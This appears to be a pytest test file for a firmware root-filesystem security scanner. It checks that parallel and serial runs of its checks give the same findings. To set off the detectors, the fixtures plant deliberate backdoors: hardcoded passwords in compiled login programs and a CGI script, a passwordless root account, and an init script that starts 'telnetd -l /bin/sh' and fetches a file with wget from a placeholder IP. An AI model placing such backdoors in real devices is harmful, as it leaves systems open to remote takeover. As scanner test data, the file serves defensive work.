"""Checks run side by side in forked workers give the same report as checks run in turn."""

from __future__ import annotations

import multiprocessing
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path

import pytest

from assay.checks import CheckContext, all_checks, run_checks
from assay.checks.base import Check, evidence_of_file
from assay.checks.hardcoded_credential.check import CHECK as HARDCODED
from assay.index import build_index
from assay.model import Component, Finding, Severity
from assay.unpack import index_directory
from c_programs import LOGIN_C


@pytest.fixture(scope="module")
def tree(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A root filesystem with three credential programs (one copied twice), a script and accounts."""
    if shutil.which("gcc") is None:
        pytest.skip("gcc is not installed")
    root = tmp_path_factory.mktemp("runner") / "rootfs"
    build = root.parent / "build"
    build.mkdir()
    for i, (user, secret) in enumerate([("svc1", "Qw7#pLx9z"), ("svc2", "Rt5!mKz8q"), ("svc3", "Hy2$wQe7n")]):
        src = build / f"p{i}.c"
        src.write_text(LOGIN_C % (user, secret))
        out = root / "usr" / "sbin" / f"login{i}"
        out.parent.mkdir(parents=True, exist_ok=True)
        subprocess.run(["gcc", "-O2", "-s", "-o", str(out), str(src)], check=True)
    (root / "usr/bin").mkdir()
    shutil.copy(root / "usr/sbin/login0", root / "usr/bin/login0-copy")
    (root / "etc").mkdir()
    (root / "etc/passwd").write_text("root::0:0:root:/root:/bin/sh\nsupport:x:0:0::/:/bin/sh\n")
    www = root / "www/cgi-bin"
    www.mkdir(parents=True)
    (www / "auth.cgi").write_text('#!/bin/sh\nif [ "$PASSWORD" = "Zx9!kLm2q" ]; then echo ok; fi\n')
    return root


def _context(root: Path) -> CheckContext:
    return CheckContext(index=build_index([index_directory(root, "fs0")]))


def _ids(findings: list[Finding]) -> list[str]:
    return [f.id for f in findings]


def test_side_by_side_gives_the_findings_of_a_run_in_turn(tree: Path) -> None:
    checks = all_checks()
    serial = run_checks(_context(tree), checks, jobs=1)
    seen: list[str] = []
    parallel = run_checks(_context(tree), checks, progress=seen.append, jobs=2)
    assert parallel.jobs == 2 and serial.jobs == 1
    assert _ids(parallel.findings) == _ids(serial.findings)
    assert parallel.errors == serial.errors == {}
    # every check ran and was reported done once, split or not
    assert sorted(seen) == sorted(c.id for c in checks)
    assert set(parallel.timings) == {c.id for c in checks}
    hardcoded = [f for f in parallel.findings if f.rule == "hardcoded-credential"]
    # three programs, one of them twice, and the script
    assert sorted(f.path for f in hardcoded) == [
        "/usr/bin/login0-copy",
        "/usr/sbin/login0",
        "/usr/sbin/login1",
        "/usr/sbin/login2",
        "/www/cgi-bin/auth.cgi",
    ]


def test_split_parts_cover_each_binary_once_and_add_up_to_the_whole(tree: Path) -> None:
    ctx = _context(tree)
    assert HARDCODED.split is not None
    parts = HARDCODED.split(ctx)
    paths = [p for _w, part in parts for p in part]
    assert len(paths) == len(set(paths))  # no file in two parts
    copies = [part for _w, part in parts if "/usr/sbin/login0" in part]
    assert copies == [frozenset({"/usr/sbin/login0", "/usr/bin/login0-copy"})]
    by_parts = [f for _w, part in parts for f in HARDCODED.run(replace(ctx, part=part))]
    assert sorted(_ids(by_parts)) == sorted(_ids(list(HARDCODED.run(ctx))))


def _boom(ctx: CheckContext) -> Iterator[Finding]:
    raise RuntimeError("broken rule")
    yield  # pragma: no cover


def _unpicklable(ctx: CheckContext) -> Iterator[Finding]:
    # a detail that cannot cross between processes: the runner must redo this check here
    entry = ctx.index.get("/etc/passwd")
    assert entry is not None
    yield UNPICKLABLE.finding(entry.path, "odd", [evidence_of_file(entry)], details={"fn": lambda: None})


BROKEN = Check(id="zz-broken", category="test", severity=Severity.LOW, title="t", description="d", run=_boom)
UNPICKLABLE = Check(
    id="zz-unpicklable", category="test", severity=Severity.LOW, title="t", description="d", run=_unpicklable
)


def test_a_failing_check_or_an_unpicklable_finding_loses_nothing_else(tree: Path) -> None:
    checks = [HARDCODED, BROKEN, UNPICKLABLE]
    run = run_checks(_context(tree), checks, jobs=2)
    assert run.errors == {"zz-broken": "RuntimeError: broken rule"}
    assert [f.title for f in run.findings if f.rule == "zz-unpicklable"] == ["odd"]
    assert len([f for f in run.findings if f.rule == "hardcoded-credential"]) == 5


def test_without_fork_the_checks_run_in_turn(tree: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(multiprocessing, "get_all_start_methods", lambda: ["spawn"])
    run = run_checks(_context(tree), [HARDCODED, BROKEN], jobs=4)
    assert run.jobs == 1
    assert len(run.findings) == 5 and "zz-broken" in run.errors


SLOW_RUN = r"""
import signal, sys, time
# Ctrl-C as in a terminal: a run started in the background (CI) inherits SIGINT ignored.
signal.signal(signal.SIGINT, signal.default_int_handler)
from pathlib import Path
from assay.checks import CheckContext, run_checks
from assay.checks.base import Check
from assay.index import build_index
from assay.model import Severity
from assay.unpack import index_directory

def slow(ctx):
    time.sleep(60)
    yield from ()

def halves(ctx):
    return [(1, frozenset({"/a"})), (1, frozenset({"/b"}))]

check = Check(id="slow", category="test", severity=Severity.LOW, title="t", description="d", run=slow, split=halves)
ctx = CheckContext(index=build_index([index_directory(Path(sys.argv[1]), "fs0")]))
print("started", flush=True)
try:
    run_checks(ctx, [check], jobs=2)
except KeyboardInterrupt:
    print("interrupted", flush=True)
    sys.exit(130)
"""


def test_ctrl_c_stops_the_workers_too(tmp_path: Path) -> None:
    import os
    import signal
    import sys
    import time

    (tmp_path / "a").write_text("a")
    (tmp_path / "b").write_text("b")
    script = tmp_path / "slow.py"
    script.write_text(SLOW_RUN)
    proc = subprocess.Popen(
        [sys.executable, str(script), str(tmp_path)],
        stdout=subprocess.PIPE,
        text=True,
        start_new_session=True,  # its own process group: the workers are in it too
    )
    assert proc.stdout is not None
    assert proc.stdout.readline().strip() == "started"
    time.sleep(1.5)  # the workers are forked and asleep in the check
    os.killpg(proc.pid, signal.SIGINT)
    out, _ = proc.communicate(timeout=30)
    assert proc.returncode == 130 and "interrupted" in out
    deadline = time.monotonic() + 10
    while time.monotonic() < deadline:
        try:
            os.killpg(proc.pid, 0)
        except ProcessLookupError:
            return  # nothing of the run is left
        time.sleep(0.1)
    os.killpg(proc.pid, signal.SIGKILL)
    raise AssertionError("a worker outlived the interrupted run")


def test_ctrl_c_during_the_fork_of_a_worker_is_not_lost(tmp_path: Path) -> None:
    # The Ctrl-C comes from an at-fork hook, i.e. exactly while a worker is being forked. Python
    # runs its handler inside the hook and drops the KeyboardInterrupt unless the runner holds
    # SIGINT across the fork; then the scan would wait 60 s for its sleeping workers.
    (tmp_path / "a").write_text("a")
    (tmp_path / "b").write_text("b")
    script = tmp_path / "slow.py"
    hook = "import os, signal\nos.register_at_fork(after_in_parent=lambda: os.kill(os.getpid(), signal.SIGINT))\n"
    script.write_text(SLOW_RUN.replace('print("started", flush=True)\n', hook))
    proc = subprocess.run(
        [sys.executable, str(script), str(tmp_path)], capture_output=True, text=True, timeout=30
    )
    assert proc.returncode == 130 and "interrupted" in proc.stdout, proc.stderr


def test_light_parts_go_out_together_heavy_ones_alone() -> None:
    from assay.checks.runner import _MIN_TASK_SECONDS, _bundled

    light = [(_MIN_TASK_SECONDS / 4, frozenset({f"/bin/p{i}"})) for i in range(10)]
    heavy = [(_MIN_TASK_SECONDS * 5, frozenset({"/bin/big", "/usr/bin/big-copy"}))]
    tasks = _bundled(heavy + light)
    assert tasks[0] == heavy[0]
    assert sorted(k for _w, keys in tasks for k in keys) == sorted(
        k for _w, keys in heavy + light for k in keys
    )
    assert [len(keys) for _w, keys in tasks[1:]] == [4, 4, 2]  # up to the threshold a task, the rest last
    assert sum(w for w, _k in tasks) == pytest.approx(sum(w for w, _k in heavy + light))


def test_the_boot_model_is_built_once_for_the_checks_that_read_it(
    tree: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from assay.analysis import initsystem

    (tree.parent / "boot").mkdir(exist_ok=True)
    root = tree.parent / "boot" / "rootfs"
    if not root.exists():
        shutil.copytree(tree, root, symlinks=True)
        (root / "etc/inittab").write_text("::sysinit:/etc/init.d/rcS\n")
        (root / "etc/init.d").mkdir()
        rcs = root / "etc/init.d/rcS"
        rcs.write_text("#!/bin/sh\ntelnetd -l /bin/sh -p 2323\nwget -q http://203.0.113.77/cfg -O /tmp/c\n")
        rcs.chmod(0o755)
    readers = [
        c
        for c in all_checks()
        if c.id in ("remote-shell", "phone-home", "insecure-service", "service-exposure")
    ]
    assert len(readers) == 4
    alone = sorted(f.id for c in readers for f in c.run(_context(root)))  # a memo each
    built: list[object] = []
    real = initsystem.boot_model

    def counted(index: object) -> initsystem.BootModel:
        built.append(index)
        return real(index)  # type: ignore[arg-type]

    monkeypatch.setattr(initsystem, "boot_model", counted)
    together = run_checks(_context(root), readers, jobs=1)
    assert len(built) == 1
    assert sorted(_ids(together.findings)) == alone
    assert any(f.rule == "remote-shell" for f in together.findings)


# The inventory beside the checks: a check that declares needs_components gets the inventory's
# components, one that does not cannot read them, and the inventory runs while other checks do.


def _component_names(ctx: CheckContext) -> Iterator[Finding]:
    entry = ctx.index.get("/etc/passwd")
    assert entry is not None
    seen = ", ".join(f"{c.name} {c.version}" for c in ctx.components)
    yield READER.finding(entry.path, f"saw {seen}", [evidence_of_file(entry)])


READER = Check(
    id="zz-reader",
    category="test",
    severity=Severity.LOW,
    title="t",
    description="d",
    run=_component_names,
    needs_components=True,
)
UNDECLARED = replace(READER, id="zz-undeclared", needs_components=False)
INVENTORY_OF_TWO = (
    Component("busybox", "1.36.1", "pkg:generic/busybox@1.36.1", None),
    Component("dropbear", "2022.83", "pkg:generic/dropbear@2022.83", None),
)


@pytest.mark.parametrize("jobs", [1, 2])
def test_checks_that_need_the_inventory_get_its_components(tree: Path, jobs: int) -> None:
    ran: list[int] = []

    def inventory() -> list[Component]:
        ran.append(1)
        return list(INVENTORY_OF_TWO)

    run = run_checks(_context(tree), [HARDCODED, READER, UNDECLARED], jobs=jobs, inventory=inventory)
    assert run.components == INVENTORY_OF_TWO
    assert [f.title for f in run.findings if f.rule == "zz-reader"] == [
        "saw busybox 1.36.1, dropbear 2022.83"
    ]
    assert "without declaring needs_components" in run.errors["zz-undeclared"]
    assert len([f for f in run.findings if f.rule == "hardcoded-credential"]) == 5
    assert run.inventory_seconds > 0
    if jobs == 1:
        assert ran == [1]  # in a worker otherwise: this process's list stays empty


def _writes_marker(ctx: CheckContext) -> Iterator[Finding]:
    Path(ctx.options["marker"]).write_text("done")
    return iter(())


MARKER = Check(
    id="zz-marker", category="test", severity=Severity.LOW, title="t", description="d", run=_writes_marker
)


def test_the_inventory_runs_while_the_checks_do(tree: Path, tmp_path: Path) -> None:
    marker = tmp_path / "marker"

    def inventory() -> list[Component]:
        # Waits for a check to have run: only a run that overlaps the two gets past this.
        deadline = time.monotonic() + 20
        while not marker.exists():
            if time.monotonic() > deadline:
                raise TimeoutError("no check ran while the inventory did")
            time.sleep(0.01)
        return list(INVENTORY_OF_TWO)

    ctx = replace(_context(tree), options={"marker": str(marker)})
    run = run_checks(ctx, [MARKER, READER], jobs=2, inventory=inventory)
    assert run.jobs == 2 and run.components == INVENTORY_OF_TWO
    assert [f.title for f in run.findings if f.rule == "zz-reader"] == [
        "saw busybox 1.36.1, dropbear 2022.83"
    ]


def test_a_pool_that_cannot_start_leaves_every_check_to_run_here(
    tree: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from assay.checks import runner

    def refuse(*_a: object, **_k: object) -> None:
        raise OSError("no processes left")

    monkeypatch.setattr(runner, "ProcessPoolExecutor", refuse)
    run = run_checks(_context(tree), [READER, UNDECLARED], jobs=2, inventory=lambda: INVENTORY_OF_TWO)
    assert run.components == INVENTORY_OF_TWO
    assert [f.title for f in run.findings if f.rule == "zz-reader"] == [
        "saw busybox 1.36.1, dropbear 2022.83"
    ]


@pytest.mark.parametrize("jobs", [1, 2])
def test_an_inventory_that_fails_fails_the_run_as_it_would_alone(tree: Path, jobs: int) -> None:
    def inventory() -> list[Component]:
        raise ValueError("unreadable package database")

    with pytest.raises(ValueError, match="unreadable package database"):
        run_checks(_context(tree), [HARDCODED, READER], jobs=jobs, inventory=inventory)
